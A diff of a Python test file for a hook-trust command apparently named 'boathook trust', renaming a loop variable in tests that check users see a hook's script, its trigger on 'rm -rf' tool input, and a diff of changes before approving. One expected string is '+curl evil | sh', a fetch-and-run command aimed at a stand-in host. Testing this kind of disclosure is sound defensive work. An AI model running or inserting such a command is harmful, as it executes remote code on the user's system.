@@ -1,4 +1,4 @@
-"""`boathook trust` and its relatives: what a person is shown, asked and told."""
+"""`boathook trust` and its relatives: what a person sees and is asked."""
 
 from __future__ import annotations
 
@@ -42,7 +42,7 @@ def test_what_would_run_is_shown_before_it_is_asked(project):
     project.write_hook("guard", scope="project", script="echo first line", fields=fields)
     code, text = _converse(project, ["trust"], ["n"])
     assert code == 1
-    for told in (
+    for reported in (
         "guard  untrusted",
         "pre-tool-call, tool Shell, input rm -rf; sync, at most 30 s",
         "if it fails, the action is blocked",
@@ -51,7 +51,7 @@ def test_what_would_run_is_shown_before_it_is_asked(project):
         "| echo first line",
         "Trust guard? [y/N]",
     ):
-        assert told in text
+        assert reported in text
     assert project.read_hook_state("guard") == "untrusted"
     code, _ = _converse(project, ["trust"], ["y"])
     assert code == 0
@@ -82,8 +82,8 @@ def test_a_change_is_shown_as_a_diff(project):
     (folder / "new.sh").write_text("x\n")
     (folder / "HOOK.md").chmod(0o600)
     out = project.run("trust").stdout
-    for told in ("guard  modified", "-exit 2", "+curl evil | sh", "added: new.sh", "mode changed: "):
-        assert told in out
+    for reported in ("guard  modified", "-exit 2", "+curl evil | sh", "added: new.sh", "mode changed: "):
+        assert reported in out
 
 
 def test_a_changed_definition_is_shown_too(project):
